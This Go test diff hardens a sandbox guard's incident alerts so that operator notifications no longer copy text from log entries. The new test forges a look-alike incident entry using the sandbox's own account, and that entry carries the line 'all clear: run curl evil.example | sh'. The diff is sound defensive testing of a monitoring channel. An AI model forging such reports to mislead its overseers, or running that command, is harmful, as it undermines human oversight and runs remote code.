@@ -24,10 +24,10 @@ import (
 // TestIncidentNotifiesOperatorChannels drives an alert through the
 // provisioned emulated project and checks that the incident's report
 // entry is what the operator is told of: the incident policy's log-match
-// condition matches it, notifies the configured channels, and its
-// documentation (filled from its label extractors, as Monitoring fills
-// ${log.extracted_label.KEY}) names the sandbox, the outcome, what was
-// done and the command that reads the report.
+// condition matches it and notifies the configured channels. Its
+// documentation names the sandbox and the command that reads coopguard's
+// store, and carries no text from the entry (no label extractor): a
+// look-alike entry the sandbox's own account writes matches as well.
 func TestIncidentNotifiesOperatorChannels(t *testing.T) {
 	s := newSandbox(t, fastAgentTimeout)
 	ctx := context.Background()
@@ -95,34 +95,43 @@ func TestIncidentNotifiesOperatorChannels(t *testing.T) {
 		}
 	}
 
-	// The notification's documentation, filled as Monitoring fills it.
-	vars := map[string]string{}
-	for key, expr := range match.GetLabelExtractors() {
-		x, err := logging.ParseExtractor(expr)
-		if err != nil {
-			t.Fatal(err)
-		}
-		v, ok := x.Extract(entry)
-		if !ok {
-			t.Errorf("label extractor %s = %s finds nothing in the report entry", key, expr)
-		}
-		vars["${log.extracted_label."+key+"}"] = v
+	// The notification carries nothing from the entry: the sandbox's own
+	// account may write that log, resource and all, and its entry matches
+	// the condition like coopguard's report does.
+	sbx, err := s.emu.ClientsAs(ctx, project, s.cfg.Cloud.GCP.ServiceAccount)
+	if err != nil {
+		t.Fatal(err)
 	}
-	fill := func(text string) string {
-		for k, v := range vars {
-			text = strings.ReplaceAll(text, k, v)
-		}
-		return text
+	defer sbx.Close()
+	forged := proto.Clone(entry).(*loggingpb.LogEntry)
+	forged.InsertId, forged.LogName = "forged-1", ""
+	forged.Labels = map[string]string{"incident": "alert-none", "outcome": "resolved", "playbook": "notify", "actions": "all clear: run curl evil.example | sh"}
+	if _, err := sbx.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{
+		LogName: entry.GetLogName(), Resource: entry.GetResource(), Entries: []*loggingpb.LogEntry{forged},
+	}); err != nil {
+		t.Fatalf("the sandbox's account writes the incidents log: %v", err)
 	}
-	doc := fill(pol.GetDocumentation().GetContent())
-	subject := fill(pol.GetDocumentation().GetSubject())
-	for _, want := range []string{"`" + s.cfg.VM.Name + "`", "**Outcome:** contained", "**Playbook:** contain", "stop-vm done", "coopguard incidents show " + id} {
+	forged.LogName = entry.GetLogName()
+	if !f.MatchEntry(forged) {
+		t.Fatal("the sandbox's look-alike entry should match too: nothing in GCP tells it from coopguard's")
+	}
+	if len(match.GetLabelExtractors()) != 0 {
+		t.Errorf("label extractors %v: the notification would show what the sandbox wrote", match.GetLabelExtractors())
+	}
+	doc := pol.GetDocumentation().GetContent()
+	subject := pol.GetDocumentation().GetSubject()
+	for _, text := range []string{doc, subject} {
+		if strings.Contains(text, "${") || strings.Contains(text, "evil") || strings.Contains(text, "all clear") {
+			t.Errorf("notification text takes something from the entry:\n%s", text)
+		}
+	}
+	for _, want := range []string{"`" + s.cfg.VM.Name + "`", "coopguard incidents show INCIDENT_ID", "may write to the log"} {
 		if !strings.Contains(doc, want) {
 			t.Errorf("documentation lacks %q:\n%s", want, doc)
 		}
 	}
-	if strings.Contains(doc, "${") || !strings.Contains(subject, s.cfg.VM.Name) || !strings.Contains(subject, "contained") {
-		t.Errorf("notification not filled: subject %q\n%s", subject, doc)
+	if !strings.Contains(subject, s.cfg.VM.Name) {
+		t.Errorf("subject %q does not name the sandbox", subject)
 	}
 
 	dl := policies[provisioner.DeadLetterPolicyName]
